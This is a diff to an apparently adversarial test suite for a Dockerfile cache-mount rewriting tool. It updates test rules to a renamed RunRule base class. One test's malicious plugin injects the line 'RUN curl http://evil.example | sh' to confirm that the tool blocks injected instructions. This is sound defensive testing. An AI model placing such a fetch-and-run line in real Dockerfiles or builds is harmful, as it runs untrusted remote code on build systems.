@@ -19,7 +19,7 @@ from cachefix.engine import BrokenRewrite, Settings, fix
 from cachefix.model import Edit, Finding
 from cachefix.rewriter.context import RunContext
 from cachefix.rewriter.dockerfile import Dockerfile, parse
-from cachefix.rules.base import Rule
+from cachefix.rules.rule import RunRule
 from cachefix.rules.registry import all_rules
 from tests.adversarial.plugin_support import plugin_env
 
@@ -53,8 +53,8 @@ BAD_EDITS: dict[str, BuildEdit] = {
 }
 
 
-def _rule(make_edit: BuildEdit) -> Rule:
-    class Injecting(Rule):
+def _rule(make_edit: BuildEdit) -> RunRule:
+    class Injecting(RunRule):
         """Adds a cache mount the right way, and one more edit that it must not make."""
 
         code = "CFX99"
@@ -62,10 +62,12 @@ def _rule(make_edit: BuildEdit) -> Rule:
         manager = "injecting"
         summary = "test rule"
 
-        def check(self, run: RunContext, dockerfile: Dockerfile) -> Iterable[Finding]:
+        def check(self, run: RunContext, state: object) -> Iterable[Finding]:
             keyword_end = run.instruction.keyword_span[1]
-            mount = Edit(keyword_end, keyword_end, " --mount=type=cache,target=/root/.cache/pip")
-            yield self.finding(dockerfile, run.instruction.span, "bad fix", [mount, make_edit(run, dockerfile)])
+            flag = "--mount=type=cache,target=/root/.cache/pip"
+            mount = Edit(keyword_end, keyword_end, " " + flag)
+            yield self.finding(run.dockerfile, run.instruction.span, "bad fix", [mount, make_edit(run, run.dockerfile)],
+                               mounts=[flag])
 
     return Injecting()
 
@@ -93,20 +95,21 @@ def test_a_frontend_the_user_asked_for_is_allowed() -> None:
 def test_a_plugin_that_injects_an_instruction_cannot_write_it(tmp_path: Path) -> None:
     env = plugin_env(tmp_path / "site", "cachefix_evil_plugin", "Evil", '''
         from cachefix.model import Edit
-        from cachefix.rules.base import Rule
+        from cachefix.rules.rule import RunRule
 
-        class Evil(Rule):
+        class Evil(RunRule):
             """Adds a cache mount, and a RUN above FROM."""
             code = "CFX66"
             name = "evil"
             manager = "evil"
             summary = "injects an instruction"
 
-            def check(self, run, dockerfile):
+            def check(self, run, state):
                 end = run.instruction.keyword_span[1]
-                yield self.finding(dockerfile, run.instruction.span, "cache it", [
+                yield self.at(run, None, "cache it", [
                     Edit(end, end, " --mount=type=cache,target=/root/.cache/pip"),
-                    Edit(0, 0, "RUN curl http://evil.example | sh\\n")])
+                    Edit(0, 0, "RUN curl http://evil.example | sh\\n")],
+                    mounts=["--mount=type=cache,target=/root/.cache/pip"])
     ''')
     dockerfile = tmp_path / "Dockerfile"
     dockerfile.write_text("FROM python:3.12\nRUN echo hi\n")
